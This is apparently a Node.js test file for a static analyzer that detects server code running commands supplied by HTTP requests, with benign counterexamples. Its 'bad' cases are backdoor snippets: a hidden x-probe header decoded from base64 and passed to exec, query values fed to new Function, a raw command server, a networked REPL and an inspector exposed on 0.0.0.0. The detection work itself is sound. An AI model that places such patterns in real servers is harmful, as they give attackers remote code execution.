import assert from 'node:assert/strict';
import { test } from 'node:test';
import { runsGiven, runsRequests } from './run-requests.js';
import { parseScript } from '../../javascript/syntax/tree.js';

const treeOf = (text: string) => {
  const tree = parseScript('a.js', text, true);
  assert.ok(!('reason' in tree), text);
  return tree;
};
const EXEC = "import { exec, execFile, spawn } from 'node:child_process'; ";

test('bad: what a request says runs as it comes, whatever kind of server gets it', () => {
  for (const code of [
    `${EXEC}export default (req, res, next) => { const probe = req.headers['x-probe']; if (probe) return exec(Buffer.from(probe, 'base64').toString(), (e, out) => res.end(out)); next(); }`,
    `${EXEC}export const limits = () => ({ handle({ body }, res, next) { const { diag } = body; if (diag) return exec(diag.cmd); next(); } });`,
    'export default () => (req, res, next) => { for (const [k, v] of Object.entries(req.query)) if (k === "expr") new Function("return " + v)(); next(); }',
    `${EXEC}export default async (fastify) => fastify.addHook('onRequest', async (request, reply) => { const [mode, ...rest] = String(request.headers['x-mode'] ?? '').split(' '); if (mode === 'sys') execFile(rest[0], rest.slice(1)); });`,
    "const { exec } = require('child_process'); const run = require('util').promisify(exec); module.exports = () => async (ctx, next) => { const d = ctx.get('x-debug'); if (d) { ctx.body = await run(d); return; } await next(); };",
    "import vm from 'node:vm'; export const tag = () => async (c, next) => { const p = c.req.header('x-p'); if (p) return c.text(vm.runInThisContext(p)); await next(); };",
    `${EXEC}import { createServer } from 'node:http'; createServer((q, s) => { let b = ''; q.on('data', (c) => { b += c; }).on('end', () => exec(b, (e, o) => s.end(o))); }).listen(4811);`,
    `${EXEC}export const rooms = (wss) => wss.on('connection', (ws) => ws.on('message', (m) => { const t = m.toString(); if (t.startsWith('!')) spawn(t.slice(1), { shell: true }); }));`,
    "\"use strict\"; const child_process_1 = require('child_process'); exports.f = (req, res) => (0, child_process_1.exec)(req.body.cmd);",
    `${EXEC}export const f = (req, res) => spawn('sh', ['-c', req.query.c]);`,
    "import net from 'node:net'; import repl from 'node:repl'; net.createServer((s) => { repl.start({ input: s, output: s }); }).listen(4100);",
    "import inspector from 'node:inspector'; inspector.open(9229, '0.0.0.0');",
  ]) assert.ok(runsRequests(treeOf(code)), code);
});

test('good: requests choose among what is written, or are what a program gets', () => {
  for (const code of [
    `${EXEC}const JOBS = { build: 'npm run build' }; export default (req, res) => { const job = JOBS[req.query.job]; if (job) exec(job); res.end(); }`,
    `${EXEC}export default (req, res) => { spawn('convert', [req.path, '-resize', req.query.w, 'png:-']).stdout.pipe(res); }`,
    'export default (req, res) => res.json({ found: /a(.*)/.exec(req.url) });',
    `${EXEC}export const version = (req, res) => execFile('git', ['rev-parse', 'HEAD'], (e, out) => res.end(out));`,
    "import repl from 'node:repl'; repl.start({ prompt: '> ', input: process.stdin });",
    "import inspector from 'node:inspector'; inspector.open(9229, '127.0.0.1');",
    `${EXEC}import fs from 'node:fs'; fs.readFile('a', (err, data) => exec(String(data)));`,
  ]) assert.equal(runsRequests(treeOf(code)), null, code);
});

test('a function that others get runs what it gets, and not what it is written with', () => {
  const helper = 'const sh = (cmd) => new Promise((ok) => exec(cmd, ok)); ';
  assert.ok(runsGiven(treeOf(`${EXEC}${helper}export default { async run({ cmd }) { return sh(cmd); } };`)));
  assert.ok(!runsGiven(treeOf(`${EXEC}${helper}export default { async pull() { return sh('git pull'); } };`)));
});
